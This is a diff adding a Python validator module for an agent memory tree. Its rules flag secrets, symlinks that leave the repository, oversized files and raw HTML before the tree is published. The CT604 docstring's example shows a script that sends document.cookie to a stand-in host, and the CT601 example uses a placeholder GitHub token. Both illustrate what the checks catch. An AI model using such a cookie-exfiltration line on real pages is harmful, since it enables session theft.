@@ -1,0 +1,260 @@
+"""CT6xx: what must not be published — secrets, links out of the repository, huge files, raw HTML.
+
+These rules look at every file the tree reads. A secret is located and named by its kind,
+never echoed; a link leaving the repository is reported by its name and never read.
+"""
+
+from __future__ import annotations
+
+import re
+from typing import Iterator
+
+from markdown_it import MarkdownIt
+from markdown_it.token import Token
+
+from continuity.validators.diagnostics import Violation
+from continuity.model.tree import Document, TreeFile
+from continuity.model.notes import read_store
+from continuity.formats.secrets import find_credentials, line_column
+from continuity.validators.registry import CheckContext, rule
+
+#: CommonMark with raw HTML enabled: html_block and html_inline tokens are what CT604 reports.
+_MARKDOWN = MarkdownIt("commonmark")
+_COMMENT = re.compile(r"^\s*(?:<!--.*?-->\s*)+$", re.S)
+_TAG = re.compile(r"<\s*([!?]?[A-Za-z][\w:-]*)")
+#: Every raw HTML token starts so; a file without one is not parsed at all (most are not).
+_MAY_HOLD_HTML = re.compile(r"<[A-Za-z!?/]")
+
+
+# --------------------------------------------------------------------------- CT601
+
+
+@rule("CT601", "secret", "error")
+def secret(ctx: CheckContext) -> Iterator[Violation]:
+    """Credential-like text in a file that would be published.
+
+    Memory trees are pushed to git hosts and published as sites; a key in a state file, an
+    entry, the cycle ledger or a note store is leaked the moment it is. Detected: cloud keys
+    (AWS), provider tokens (GitHub, GitLab, Slack, npm, OpenAI, Anthropic, Stripe, Google),
+    private key blocks, JSON Web Tokens, bearer tokens, passwords in URLs and secrets assigned
+    to keys such as `password:` or `api_key=`. The report names the kind, never the secret.
+    A credential inside a note's fact is CT503's finding, not this rule's.
+
+    **Example**
+
+        **Deploy token:** ghp_0123456789abcdefghijklmnopqrstuvwxyz
+
+    **Fix**
+
+    Remove the secret and rotate it: it is in the git history already. Refer to secrets by
+    name (`the DEPLOY_TOKEN secret`) and keep them in a secret store.
+    """
+    note_stores = {store.path for store in ctx.tree.note_stores}
+    for tree_file in _published_files(ctx):
+        text = tree_file.text
+        if text is None:
+            raw = tree_file.read.raw if tree_file.read else None
+            if raw is None or b"\x00" in raw:
+                continue  # not read, or binary
+            text = raw.decode("utf-8", "replace")  # bad bytes do not hide a key
+        findings = find_credentials(text)
+        if not findings:
+            continue
+        in_facts = _note_facts(tree_file) if tree_file.path in note_stores else {}
+        for finding in findings:
+            line, column = line_column(text, finding.start)
+            if text[finding.start:finding.end] in in_facts.get(line, ""):
+                continue  # CT503 (note-unredacted) reports credentials in a fact
+            yield Violation(
+                tree_file.path,
+                f"{finding.description} ({finding.kind}) would be published; secrets must "
+                "not be kept in the memory tree",
+                "remove it and rotate the credential (it stays in the git history); refer to "
+                "it by the name of the secret store entry instead",
+                line, column)
+
+
+def _published_files(ctx: CheckContext) -> Iterator[TreeFile]:
+    seen = set()
+    files = list(ctx.tree.all_files())
+    files += [d.template_file for d in ctx.tree.directories.values() if d.template_file]
+    for tree_file in files:
+        if tree_file.path not in seen:
+            seen.add(tree_file.path)
+            yield tree_file
+
+
+def _note_facts(tree_file: TreeFile) -> dict[int, str]:
+    store = read_store(tree_file)
+    return {note.line: note.fact for note in store.notes if note.fact}
+
+
+# --------------------------------------------------------------------------- CT602
+
+
+@rule("CT602", "path-escape", "error")
+def path_escape(ctx: CheckContext) -> Iterator[Violation]:
+    """A symlink (or a configured path) leads outside the repository.
+
+    A link in the memory tree could publish any file the machine can read (`~/.ssh/id_rsa`)
+    or make the check depend on files nobody reviews. Such a path is never read or published;
+    it is reported here so that it is removed. Links that stay inside the repository are
+    followed as usual.
+
+    **Example**
+
+        journal/2026-06-27-turn-3.md -> /home/wren/private/notes.md
+
+    **Fix**
+
+    Replace the link with the file's content (if it belongs in the memory), or delete it;
+    point a configured `ledger` or `notes` path inside the repository.
+    """
+    for tree_file in ctx.tree.skipped:
+        if not tree_file.escapes:
+            continue
+        if tree_file.abspath.is_symlink():
+            try:
+                tree_file.abspath.resolve(strict=False)
+                what = f"a link to '{tree_file.symlink_target}', outside the repository"
+            except (OSError, RuntimeError):
+                what = "a link that cannot be resolved (it loops)"
+        else:
+            what = "a configured path outside the repository"
+        yield Violation(
+            tree_file.path, f"this file is {what}; it is not read or published",
+            "replace the link with the file itself, or remove it; keep every file of the "
+            "memory tree inside the repository")
+
+
+# --------------------------------------------------------------------------- CT603
+
+
+@rule("CT603", "file-too-large", "warning")
+def file_too_large(ctx: CheckContext) -> Iterator[Violation]:
+    """A file is larger than `max_file_size` (default 10 MB); it is skipped.
+
+    Memory is meant to be read by agents and people; a huge file is usually a dump that does
+    not belong in it, and reading it would slow every check and build. The file is not read,
+    checked or published.
+
+    **Example**
+
+        artifacts/2026-06-27-full-crawl.json     # 480 MB
+
+    **Fix**
+
+    Keep large data outside the memory tree (link to it from an entry), exclude it with the
+    `exclude` option, or raise `max_file_size` if such files are expected.
+    """
+    limit = ctx.config.max_file_size
+    for tree_file in ctx.tree.skipped:
+        if tree_file.read is None or not tree_file.read.too_large:
+            continue
+        yield Violation(
+            tree_file.path,
+            f"the file is {_size(tree_file.read.size)}, over max_file_size {_size(limit)}; it "
+            "is not read, checked or published",
+            "keep large data outside the memory tree, exclude it (`exclude`), or raise "
+            "max_file_size")
+
+
+def _size(count: int) -> str:
+    for unit, factor in (("GB", 10**9), ("MB", 10**6), ("kB", 10**3)):
+        if count >= factor:
+            return f"{count / factor:.1f} {unit}"
+    return f"{count} bytes"
+
+
+# --------------------------------------------------------------------------- CT604
+
+
+@rule("CT604", "raw-html", "warning")
+def raw_html(ctx: CheckContext) -> Iterator[Violation]:
+    """Raw HTML or a script in a Markdown entry or state file.
+
+    The site sanitises raw HTML (scripts, event handlers and styles are removed), so the page
+    will not show what the file says; and a `<script>` in agent memory is worth a look. HTML
+    comments, code spans and code blocks are not raw HTML.
+
+    **Example**
+
+        <div style="color:red">Deploy blocked</div>
+        <script>fetch("https://example.invalid/" + document.cookie)</script>
+
+    **Fix**
+
+    Write it in Markdown (`**Deploy blocked**`); if the HTML is an example, put it in a code
+    span or a fenced code block.
+    """
+    documents: list[tuple[str, Document]] = [
+        (s.path, s.document) for s in ctx.tree.state_files if s.document is not None]
+    documents += [(e.path, e.document) for e in ctx.tree.entries if e.document is not None]
+    for path, document in documents:
+        for line, column, html in _raw_html(document):
+            tag = _TAG.match(html)
+            name = tag.group(1) if tag else html.strip()[:20]
+            if re.search(r"<\s*script\b", html, re.I):
+                message = ("a <script> element in the Markdown; the site removes scripts when "
+                           "it sanitises raw HTML")
+            else:
+                message = (f"raw HTML <{name}> in the Markdown; the site sanitises it, so it "
+                           "may not render as written")
+            yield Violation(
+                path, message,
+                "write it in Markdown, or put it in a code span or fenced code block if it is "
+                "an example", line, column)
+
+
+def _raw_html(document: Document) -> Iterator[tuple[int, int, str]]:
+    """(line, column, html) of each raw HTML block and opening inline tag, comments left out."""
+    body = document.body
+    lines = body.lines
+    source = "\n".join(lines)
+    if not _MAY_HOLD_HTML.search(source):
+        return
+    for token in _MARKDOWN.parse(source):
+        if token.type == "html_block" and token.map:
+            if _COMMENT.match(token.content):
+                continue
+            index = token.map[0]
+            column = len(lines[index]) - len(lines[index].lstrip()) + 1
+            yield body.file_line(index), column, token.content
+        elif token.type == "inline" and token.map and token.children:
+            for offset, html in _inline_html(token):
+                if html.startswith("</") or _COMMENT.match(html):
+                    continue
+                index, column = _source_position(token, lines, offset)
+                yield body.file_line(index), column, html
+
+
+def _inline_html(token: Token) -> Iterator[tuple[int, str]]:
+    """Offsets in ``token.content`` of its html_inline children, stepping over code spans."""
+    content = token.content
+    cursor = 0
+    for child in token.children or ():
+        if child.type == "code_inline":
+            start = content.find(child.markup, cursor)
+            if start < 0:
+                continue
+            closing = re.compile(rf"(?<!`){re.escape(child.markup)}(?!`)")
+            match = closing.search(content, start + len(child.markup))
+            cursor = match.end() if match else start + len(child.markup)
+        elif child.type in ("text", "html_inline"):
+            found = content.find(child.content, cursor)
+            if found < 0:
+                continue
+            cursor = found + len(child.content)
+            if child.type == "html_inline":
+                yield found, child.content
+
+
+def _source_position(token: Token, lines: list[str], offset: int) -> tuple[int, int]:
+    """Map an offset in an inline token's content to (line index, 1-based column)."""
+    before = token.content[:offset]
+    line_in_content = before.count("\n")
+    column_in_line = offset - (before.rfind("\n") + 1)
+    index = min(token.map[0] + line_in_content, len(lines) - 1)
+    content_line = token.content.split("\n")[line_in_content]
+    base = lines[index].find(content_line) if content_line else 0
+    return index, max(base, 0) + column_in_line + 1
